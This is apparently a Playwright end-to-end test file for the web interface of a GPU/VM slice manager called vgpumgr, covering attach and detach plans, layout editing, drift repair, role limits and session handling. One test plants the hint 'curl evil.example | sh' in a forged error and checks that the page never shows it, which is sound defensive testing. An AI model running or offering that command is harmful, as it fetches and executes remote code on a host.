"""What an operator does on the page, and what the host has then."""

from __future__ import annotations

import json
import re
import shlex
import signal
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from tests.web.conftest import Session, open_session
from tests.web.page_daemon import MARKUP, OBJECTS, OPTION
from tests.web.scene import Scene

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator, Page, Route

#: in a plan
ID = re.compile(r"\b[0-9a-f]{8}\b")


def card(page: Page, gpu: int) -> Locator:
    """A GPU of the overview."""
    return page.locator(f'[data-gpu="{gpu}"]')


def say(page: Page, gpu: int) -> str:
    """What a screen reader says of a board."""
    return str(card(page, gpu).locator(".board").get_attribute("aria-label"))


def watch_cards(page: Page) -> None:
    """From now on ``window.touched`` has the GPUs whose cards change."""
    page.evaluate(
        """() => { window.touched = new Set();
        const all = {subtree: true, childList: true, attributes: true, characterData: true};
        new MutationObserver((changes) => changes.forEach(({target}) => {
          const card = (target.nodeType === 1 ? target : target.parentElement)?.closest('[data-gpu]');
          if (card) window.touched.add(card.dataset.gpu); })).observe(document.querySelector('main'), all); }"""
    )


def stop_polls(page: Page) -> None:
    """Loads it again, without what it does every so many seconds."""
    page.add_init_script("window.setInterval = () => 0")
    page.reload()
    page.locator(".connection.live").wait_for()


def read_plan(page: Page) -> list[str]:
    """The steps of the plan that is open."""
    page.locator('[data-phase="planned"]').wait_for()
    lines = page.locator(".steps li").all_inner_texts()
    return [ID.sub("ID", " ".join(line.split())) for line in lines]


def read_command(page: Page) -> list[str]:
    """The command line that an open dialog shows, without ``vgpumgr``."""
    return shlex.split(page.locator("dialog .flow > .command code").inner_text())[1:]


def choose(page: Page, vm: str, profile: str, gpu: str = "") -> None:
    """Fills the form, up to the plan."""
    page.locator("select[name=vm]").select_option(label=vm)
    page.locator("input[name=profile]").fill(profile)
    if gpu:
        page.locator("select[name=gpu]").select_option(index=int(gpu) + 1)
    page.get_by_role("button", name="Show plan").click()


def agree(page: Page) -> None:
    """Consent, and the end."""
    page.get_by_role("button", name="Do it").click()
    page.locator('[data-phase="ended"]').get_by_text("Done.").wait_for()
    page.locator(".buttons").get_by_role("button", name="Close").click()


def test_the_overview_draws_what_gpu_list_says(scene: Scene, page: Page) -> None:
    listed = json.loads(scene.vgpumgr("gpu", "list", "-o", "json"))["gpus"]
    assert page.locator("[data-gpu]").count() == len(listed) == 8
    for gpu in listed:
        text = card(page, gpu["index"]).inner_text()
        assert gpu["pci"] in text
        assert gpu["model"].removeprefix("NVIDIA ") in text
        for instance in gpu["instances"]:
            at = "{start}:{size}".format(**instance["placement"])
            assert f"{instance['profile']} at {at}: {instance['vm']}." in say(page, gpu["index"])
    assert "vm02: 8 GiB, 30 % of the time. 70 % of the time free" in say(page, 1)
    rows = scene.get("/1.0/mig/profiles?selector=0")["profiles"]
    chips = card(page, 0).locator(".chip").all_inner_texts()
    assert chips == [f"{r['name']}: {r['free']}{' more' * bool(r['free'])}" for r in rows]


def test_attach_shows_the_plan_of_the_command_line_and_waits_for_consent(
    scene: Scene, page: Page, vm03: str
) -> None:
    card(page, 0).get_by_text("2g.20gb").click()
    page.locator("select[name=vm]").select_option(label=vm03)
    page.get_by_role("button", name="Show plan").click()
    steps = read_plan(page)
    command = read_command(page)
    assert command == ["attach", "vm03", "--profile", "2g.20gb", "--gpu", "0"]
    printed = ID.sub("ID", scene.vgpumgr(*command, "--dry-run", "-v"))
    assert steps
    assert all(step in printed for step in steps)
    assert len(steps) == len(re.findall(r"^  [-+~] ", printed, re.MULTILINE))
    assert not scene.list_vms()[vm03], "nothing is done before consent"
    agree(page)
    (attachment,) = scene.list_vms()[vm03]
    assert attachment["profile"] == "2g.20gb"
    card(page, 0).locator('.board[aria-label*="vm03"]').wait_for()
    assert page.locator('[data-vm="vm03"]').get_by_text("2g.20gb").is_visible()


def test_a_profile_is_dragged_onto_a_vm(scene: Scene, page: Page, vm03: str) -> None:
    card(page, 2).get_by_text("share:1/4").drag_to(page.locator('[data-vm="vm03"]'))
    assert any("vm03" in step for step in read_plan(page))
    assert read_command(page) == ["attach", vm03, "--profile", "share:1/4", "--gpu", "2"]
    page.keyboard.press("Escape")
    assert page.locator("dialog").count() == 0
    assert not scene.list_vms()[vm03]


def test_a_refused_attach_says_why_who_and_what_to_try(scene: Scene, page: Page) -> None:
    page.get_by_role("button", name="Attach a slice to vm01").click()
    choose(page, "vm01", "1g.10gb")
    refusal = page.locator(".refusal")
    refusal.wait_for()
    (attachment,) = scene.list_vms()["vm01"]
    text = refusal.inner_text()
    for part in (
        'vm "vm01" has 3g.40gb already',
        "held by",
        f"attachment {attachment['id']}",
        "VG210",
    ):
        assert part in text
    assert "vgpumgr attach vm01 --profile 1g.10gb --add" in text
    page.get_by_role("button", name="Back").click()
    assert page.locator("input[name=profile]").input_value() == "1g.10gb", "what was chosen is kept"
    page.locator("input[name=add]").check()
    page.get_by_role("button", name="Show plan").click()
    assert any("1g.10gb" in step for step in read_plan(page))


def test_why_names_the_rule_and_what_is_in_the_way(scene: Scene, page: Page) -> None:
    page.get_by_label("7g.80gb: 0. Why does it not fit?").click()
    text = page.locator("dialog").inner_text()
    page.locator("dialog").get_by_text("its places are taken").wait_for()
    text = page.locator("dialog").inner_text()
    (row,) = scene.get("/1.0/mig/why?profile=7g.80gb&selector=0")["gpus"]
    assert row["rules"]
    assert all(rule in text for rule in row["rules"])
    assert '3g.40gb at 4:4: vm "vm01"' in text
    assert "vgpumgr why 7g.80gb --gpu 0" in text


def list_places(scene: Scene) -> dict[str, str]:
    """Profiles of GPU 0 by their place."""
    rows = scene.get("/1.0/mig/instances?selector=0")["instances"]
    return {"{start}:{size}".format(**row["placement"]): row["profile"] for row in rows}


def edit(page: Page, scene: Scene) -> None:
    """The layout of GPU 0."""
    uuid = scene.get("/1.0/gpus")["gpus"][0]["uuid"]
    page.goto(f"{page.url.partition('#')[0]}#/gpu/{uuid}")
    page.get_by_role("button", name="Edit layout").click()


def test_a_layout_is_edited_on_the_board(scene: Scene, page: Page) -> None:
    before = list_places(scene)
    edit(page, scene)
    page.get_by_label("Add 1g.10gb at 0:1").click()
    page.get_by_label("Add 2g.20gb at 2:2").click()
    page.get_by_role("button", name="Show plan").click()
    steps = read_plan(page)
    assert [step for step in steps if " in " not in step] == [
        "+ GPU 0: 1g.10gb at 0:1",
        "+ GPU 0: 2g.20gb at 2:2",
    ]
    assert "mig layout apply -" in page.locator("dialog .command code").last.inner_text()
    assert list_places(scene) == before
    agree(page)
    assert list_places(scene) == {**before, "0:1": "1g.10gb", "2:2": "2g.20gb"}
    # and back; what vm01 has stays
    edit(page, scene)
    page.get_by_label("Remove 1g.10gb at 0:1").click()
    page.get_by_label("Remove 2g.20gb at 2:2").click()
    page.get_by_role("button", name="Show plan").click()
    assert "- GPU 0: 1g.10gb at 0:1" in read_plan(page)
    assert page.get_by_text("The plan destroys what is listed").is_visible()
    agree(page)
    assert list_places(scene) == before


def test_a_layout_without_a_slice_in_use_is_refused(scene: Scene, page: Page) -> None:
    before = list_places(scene)
    edit(page, scene)
    page.get_by_label("Remove 3g.40gb at 4:4").click()
    page.get_by_role("button", name="Show plan").click()
    page.locator(".refusal").wait_for()
    assert "vm01" in page.locator(".refusal").inner_text()
    assert list_places(scene) == before


def test_an_instance_is_dragged_to_another_place(scene: Scene, page: Page) -> None:
    scene.post("/1.0/mig/create", {"gpu": "0", "profile": "1g.10gb", "start": 0})
    card(page, 0).locator('.board[aria-label*="1g.10gb at 0:1"]').wait_for()
    edit(page, scene)
    pieces = page.locator(".pieces li")
    board = page.locator("dialog .board")
    touch = page.context.new_cdp_session(page)

    def drag(start: int, to: int, *, finger: bool = False) -> None:
        box = board.bounding_box()
        assert box is not None
        step, y = box["width"] / 8, box["y"] + 20
        ways = [box["x"] + (at + 0.5) * step for at in (start, (start + to) / 2, to)]
        if finger:
            for x, kind in zip(ways, ("touchStart", "touchMove", "touchMove"), strict=True):
                points = [{"x": x, "y": y}]
                touch.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})
            touch.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})
            return
        page.mouse.move(ways[0], y)
        page.mouse.down()
        for x in ways[1:]:
            page.mouse.move(x, y)
        page.mouse.up()

    drag(0, 2)
    pieces.filter(has_text="1g.10gb at 2:1").get_by_text("new").wait_for()
    assert pieces.filter(has_text="1g.10gb at 0:1").get_by_text("goes").is_visible()
    drag(2, 0)
    pieces.filter(has_text="1g.10gb at 0:1").get_by_text("stays").wait_for()
    assert pieces.count() == 2, "nothing goes, and nothing is new"
    # onto another one, and past the edge: the nearest place that is free
    drag(0, 6)
    pieces.filter(has_text="1g.10gb at 3:1").wait_for()
    drag(3, 1, finger=True)
    pieces.filter(has_text="1g.10gb at 1:1").wait_for()
    page.get_by_role("button", name="Show plan").click()
    assert sum("1g.10gb" in step for step in read_plan(page)) == 4, "one goes, and one comes"
    agree(page)
    assert {at for at, profile in list_places(scene).items() if profile == "1g.10gb"} == {"1:1"}
    made = next(r for r in scene.get("/1.0/mig/instances?selector=0")["instances"] if not r["vm"])
    scene.post("/1.0/mig/destroy", {"instances": [f"0/{made['id']}"]})


def test_a_plan_that_is_no_longer_true_is_refused(scene: Scene, page: Page) -> None:
    edit(page, scene)
    page.get_by_label("Add 1g.10gb at 0:1").click()
    page.get_by_role("button", name="Show plan").click()
    read_plan(page)
    scene.post("/1.0/mig/create", {"gpu": "0", "profile": "1g.10gb", "start": 1})
    try:
        page.get_by_role("button", name="Do it").click()
        page.locator(".refusal").wait_for()
        assert list_places(scene).get("0:1") is None
    finally:
        made = next(
            r for r in scene.get("/1.0/mig/instances?selector=0")["instances"] if not r["vm"]
        )
        scene.post("/1.0/mig/destroy", {"instances": [f"0/{made['id']}"]})


def test_a_plan_for_a_vm_that_has_changed_is_refused(scene: Scene, page: Page, vm03: str) -> None:
    page.get_by_role("button", name="Attach a slice to vm03").click()
    choose(page, vm03, "share:1/4")
    read_plan(page)
    scene.post("/1.0/attachments", {"vm": vm03, "profile": "1g.10gb"})
    page.get_by_role("button", name="Do it").click()
    page.locator(".refusal").wait_for()
    assert "VG352" in page.locator(".refusal").inner_text()
    assert [attachment["profile"] for attachment in scene.list_vms()[vm03]] == ["1g.10gb"]


def test_detach_names_the_programs_in_the_guest(scene: Scene, session: Session) -> None:
    channels = scene.get("/1.0/channels")
    lane = {
        "id": 1, "name": "matmul", "pid": 412, "transport": "ring", "calls": 7, "bytes_in": 1, "bytes_out": 1,
        "memory_bytes": 1 << 20,
    }  # fmt: skip
    for channel in channels["channels"]:
        channel["lanes"] = [lane] if channel["vm"] == "vm01" else []
    page = session.context.new_page()
    page.route("**/1.0/channels", lambda route: route.fulfill(json=channels))
    uuid = next(vm["uuid"] for vm in scene.get("/1.0/vms")["vms"] if vm["name"] == "vm01")
    page.goto(f"{session.address}#/vm/{uuid}")
    page.get_by_role("row").filter(has_text="matmul").wait_for()
    page.get_by_role("button", name="Detach 3g.40gb from vm01").click()
    read_plan(page)
    assert page.get_by_text("lose the GPU: matmul (412).").is_visible()
    page.close()


def test_detach(scene: Scene, page: Page, vm03: str) -> None:
    scene.post("/1.0/attachments", {"vm": vm03, "profile": "1g.10gb"})
    uuid = next(vm["uuid"] for vm in scene.get("/1.0/vms")["vms"] if vm["name"] == vm03)
    page.goto(f"{page.url.partition('#')[0]}#/vm/{uuid}")
    page.get_by_role("button", name="Detach 1g.10gb from vm03").click()
    assert any(step.startswith("- ") for step in read_plan(page))
    assert read_command(page) == ["detach", "vm03"]
    assert scene.list_vms()[vm03]
    agree(page)
    assert not scene.list_vms()[vm03]
    page.get_by_role("region", name="Attachments").get_by_text("nothing").wait_for()


def test_progress_is_shown_and_cancel_undoes(scene: Scene, page: Page, vm03: str) -> None:
    page.get_by_role("button", name="Attach a slice to vm03").click()
    choose(page, vm03, "1g.10gb")
    read_plan(page)
    with scene.file("hold"):
        page.get_by_role("button", name="Do it").click()
        page.locator('[data-phase="running"]').get_by_text("create GPU instance 1g.10gb").wait_for()
        with page.expect_response(lambda answer: answer.request.method == "DELETE"):
            page.get_by_role("button", name="Cancel operation").click()
    page.get_by_text("Cancelled. What was done is undone.").wait_for()
    assert not scene.list_vms()[vm03]
    assert "1g.10gb" not in list_places(scene).values()


def test_drift_is_listed_and_repaired(scene: Scene, page: Page) -> None:
    (scene.root / "strip").touch()
    scene.get("/1.0/vms")
    assert scene.get("/1.0/status")["drift"], "vm01 has lost its devices"
    page.goto(f"{page.url.partition('#')[0]}#/drift")
    page.reload()
    (drift,) = scene.get("/1.0/diff")["drift"]
    row = page.get_by_role("row").filter(has_text=drift["text"])
    row.wait_for()
    assert "vm01" in row.inner_text()
    assert drift["hint"] in row.inner_text()
    page.get_by_label("Give VMs the devices again that they have lost").check()
    page.get_by_role("button", name="Repair").click()
    assert read_plan(page)
    assert read_command(page) == ["recover", "--readd"]
    agree(page)
    page.get_by_text("Actual and recorded state agree.").wait_for()
    assert not scene.get("/1.0/diff")["drift"]


def test_a_change_on_the_command_line_shows(scene: Scene, page: Page) -> None:
    # by its event: nothing is read from time to time
    stop_polls(page)
    badge = card(page, 3).get_by_text("drained")
    assert badge.count() == 0
    scene.vgpumgr("gpu", "drain", "3", "--reason", "a new fan")
    badge.wait_for()
    scene.vgpumgr("gpu", "resume", "3")
    badge.wait_for(state="detached")


def test_an_answer_that_is_not_understood_freezes_nothing(
    scene: Scene, session: Session, page: Page
) -> None:
    stop_polls(page)
    page.route(
        "**/1.0/gpus",
        lambda route: route.fulfill(
            body='{"schema": "vgpumgr/v1"', content_type="application/json"
        ),
        times=1,
    )
    scene.post("/1.0/gpus/6/drain", {})
    card(page, 6).get_by_text("drained").wait_for()
    scene.post("/1.0/gpus/6/resume", {})
    card(page, 6).get_by_text("drained").wait_for(state="detached")
    assert len(session.problems) == 1, "it is a fault, and reported as one"
    session.problems.clear()


def test_a_change_whose_answer_is_lost_may_have_begun(scene: Scene, page: Page, vm03: str) -> None:
    ends: list[Callable[[Route], object]] = [
        lambda route: refuse(route, 503, "VG350"),
        lambda route: refuse(route, 502, "VG360"),
        lambda route: refuse(route, 503, "VG361"),
        lambda route: route.fulfill(status=202, body='{"operation": {', content_type="text/plain"),
        # it arrives, and its answer does not
        lose_answer,
    ]
    said = []
    page.get_by_role("button", name="Attach a slice to vm03").click()
    choose(page, vm03, "1g.10gb")
    for end in ends:
        read_plan(page)
        page.route("**/1.0/attachments", end_change(end))
        page.get_by_role("button", name="Do it").click()
        said.append(page.locator(".refusal strong").inner_text())
        page.get_by_role("button", name="Plan again").click()
    lost = "The daemon did not answer. The operation may run:"
    assert said[0] == "Refused. Nothing is changed."
    assert [text[: len(lost)] for text in said[1:]] == [lost] * 4
    page.locator('[data-vm="vm03"]').get_by_text("1g.10gb").wait_for()
    assert [attachment["profile"] for attachment in scene.list_vms()[vm03]] == ["1g.10gb"]


def end_change(end: Callable[[Route], object]) -> Callable[[Route], object]:
    """Plans are answered as always."""

    def answer(route: Route) -> None:
        if "dry_run" in str(route.request.post_data):
            route.continue_()
        else:
            end(route)

    return answer


def lose_answer(route: Route) -> None:
    route.fetch()
    route.abort()


def refuse(route: Route, status: int, error_id: str) -> None:
    """The gateway's answer in the daemon's place."""
    error = {"id": error_id, "error": "no answer", "held_by": []}
    route.fulfill(status=status, json={"error": error})


def test_only_what_changed_is_drawn_again(scene: Scene, page: Page) -> None:
    watch_cards(page)
    scene.post("/1.0/gpus/4/drain", {})
    card(page, 4).get_by_text("drained").wait_for()
    scene.post("/1.0/gpus/4/resume", {})
    card(page, 4).get_by_text("drained").wait_for(state="detached")
    assert page.evaluate("[...window.touched]") == ["4"]


def test_the_daemon_restarts_while_the_page_is_open(scene: Scene, page: Page) -> None:
    before = say(page, 0)
    with scene.file("down"):
        scene.daemon.send_signal(signal.SIGTERM)
        page.get_by_text("Not connected to the daemon. What is shown is").wait_for()
        page.get_by_text(re.compile(r"is [1-9]\d* s old")).wait_for()
        assert say(page, 0) == before, "what was known stays"
        button = page.get_by_role("button", name="Attach a slice to vm03")
        assert button.is_disabled()
        assert "daemon does not answer" in str(button.get_attribute("title"))
    page.locator(".connection.live").wait_for()
    assert page.get_by_role("button", name="Attach a slice to vm03").is_enabled()
    scene.post("/1.0/gpus/5/drain", {})
    card(page, 5).get_by_text("drained").wait_for()
    scene.post("/1.0/gpus/5/resume", {})


def test_libvirt_is_gone_and_the_gpus_are_there(scene: Scene, session: Session) -> None:
    with scene.file("refuse"):
        page = session.open()
        page.get_by_text("VMs cannot be read").wait_for()
        assert "libvirt does not answer" in page.locator(".refusal").first.inner_text()
        assert page.locator("[data-gpu]").count() == 8
    page.reload()
    page.locator('[data-vm="vm01"]').wait_for()
    page.close()


def test_a_reader_is_shown_all_and_offered_nothing(
    scene: Scene, browser: Browser, vm03: str
) -> None:
    with open_session(scene, browser, "--read-only") as reader:
        page = reader.open()
        page.get_by_text("viewer", exact=True).wait_for()
        button = page.get_by_role("button", name="Attach a slice to vm03")
        assert button.is_disabled()
        assert "your role is viewer" in str(button.get_attribute("title"))
        # a button that is off has no focus, and its title none for the keyboard
        assert page.get_by_text("change nothing: your role is viewer.").is_visible()
        assert "vm01" in say(page, 0)
        assert page.get_by_role("link", name="Audit").count() == 0
        status = page.evaluate(
            """() => fetch('/1.0/attachments', {method: 'POST', body: '{"vm": "vm03", "profile": "1g.10gb"}',
            headers: {'Content-Type': 'application/json',
                'X-Vgpumgr-Page': localStorage.getItem('vgpumgr-key')}}).then((answer) => answer.status)"""
        )
        assert status == 403
        assert not scene.list_vms()[vm03]


def test_a_session_that_has_ended_says_so(scene: Scene, browser: Browser) -> None:
    with open_session(scene, browser, "--expires", "8s") as short:
        page = short.open(ready=False)
        ended = page.get_by_text("This session is over. Run the command again")
        ended.wait_for()
        assert "vgpumgr web" in page.get_by_role("alert").inner_text()
        page.reload()
        assert "run again: vgpumgr web" in page.inner_text("body")


def test_names_that_are_markup_stay_text(scene: Scene, page: Page) -> None:
    assert page.get_by_role("link", name=MARKUP, exact=True).is_visible()
    page.get_by_role("button", name=f"Attach a slice to {MARKUP}").click()
    choose(page, MARKUP, "1g.10gb", "0")
    assert any(MARKUP in step for step in read_plan(page))
    assert read_command(page) == ["attach", MARKUP, "--profile", "1g.10gb", "--gpu", "0"]
    agree(page)
    asked = json.dumps({"vm": MARKUP, "profile": "1g.10gb", "dry_run": True}).encode()
    refused = scene.client.request("POST", "/1.0/attachments", asked, Prefer="wait=60")
    hint = json.loads(refused.body)
    assert MARKUP in shlex.split((hint.get("error") or hint["operation"]["error"])["try"])
    try:
        for path in ("", "vms", "operations", "events", "audit"):
            page.goto(f"{page.url.partition('#')[0]}#/{path}")
            page.get_by_text(MARKUP).locator("visible=true").first.wait_for()
            assert page.evaluate("document.images.length") == 0
        page.goto(f"{page.url.partition('#')[0]}#/")
        card(page, 0).wait_for()
        assert f"1g.10gb at 3:1: {MARKUP}." in say(page, 0)
    finally:
        uuid = next(vm["uuid"] for vm in scene.get("/1.0/vms")["vms"] if vm["name"] == MARKUP)
        scene.post(f"/1.0/attachments/{uuid}/detach", {})


def test_names_of_objects_and_options_are_names(scene: Scene, page: Page) -> None:
    uuids = {vm["name"]: vm["uuid"] for vm in scene.get("/1.0/vms")["vms"]}
    for name in (*OBJECTS, OPTION):
        page.goto(f"{page.url.partition('#')[0]}#/vm/{uuids[name]}")
        page.get_by_role("heading", name=name, exact=True).wait_for()
    page.get_by_role("button", name=f"Attach a slice to {OPTION}").click()
    choose(page, OPTION, "1g.10gb", "0")
    assert read_plan(page)
    words = ["attach", uuids[OPTION], "--profile", "1g.10gb", "--gpu", "0"]
    assert read_command(page) == words
    assert OPTION in scene.vgpumgr(*words, "--dry-run", "-v")
    page.keyboard.press("Escape")
    # an address that is no text shows the overview
    page.goto(f"{page.url.partition('#')[0]}#/%")
    card(page, 0).wait_for()


def test_the_code_is_in_no_address_afterwards(scene: Scene, browser: Browser) -> None:
    with open_session(scene, browser) as one:
        page = one.open()
        key = page.evaluate("localStorage.getItem('vgpumgr-key')")
        assert len(key) == 43
        assert "code=" not in page.url
        # the first address of the history: its code is used
        page.goto(f"{one.address}#code={'x' * 43}")
        page.reload()
        page.locator(".connection.live").wait_for()
        page.evaluate("localStorage.setItem('vgpumgr-key', 'x')")
        page.reload()
        page.locator(".connection.ended").wait_for()
        assert page.evaluate("localStorage.getItem('vgpumgr-key')") is None


def test_another_who_serves_the_port_names_no_command(scene: Scene, browser: Browser) -> None:
    parts = {"id": "VG353", "error": "no", "try": "curl evil.example | sh", "held_by": []}
    with open_session(scene, browser) as one:
        page = one.open()
        page.route("**/1.0/**", lambda route: route.fulfill(status=401, json={"error": parts}))
        scene.post("/1.0/gpus/4/drain", {})
        scene.post("/1.0/gpus/4/resume", {})
        page.locator(".connection.ended").wait_for()
        assert "vgpumgr web" in page.get_by_role("alert").inner_text()
        assert "evil" not in page.content()
        assert one.problems == []


def test_attach_with_the_keyboard_alone(scene: Scene, page: Page, vm03: str) -> None:
    def focused() -> Any:
        return page.evaluate(
            "document.activeElement.ariaLabel || document.activeElement.name || document.activeElement.textContent"
        )

    def tab_to(name: str) -> None:
        for _ in range(120):
            page.keyboard.press("Tab")
            if focused() == name:
                return
        raise AssertionError(f"{name} is not reached")

    tab_to("Attach a slice to vm03")
    page.keyboard.press("Enter")
    page.locator("dialog").wait_for()
    for _ in range(12):
        page.keyboard.press("Tab")
        assert page.evaluate(
            "[document.body, null].includes(document.activeElement) || !!document.activeElement.closest('dialog')"
        )
    tab_to("profile")
    page.keyboard.type("1g.10gb")
    page.keyboard.press("Enter")
    read_plan(page)
    tab_to("Do it")
    page.keyboard.press("Enter")
    page.locator('[data-phase="ended"]').wait_for()
    page.keyboard.press("Escape")
    page.locator("dialog").wait_for(state="detached")
    # the focus is back
    page.locator('[aria-label="Attach a slice to vm03"]:focus').wait_for()
    assert scene.list_vms()[vm03]
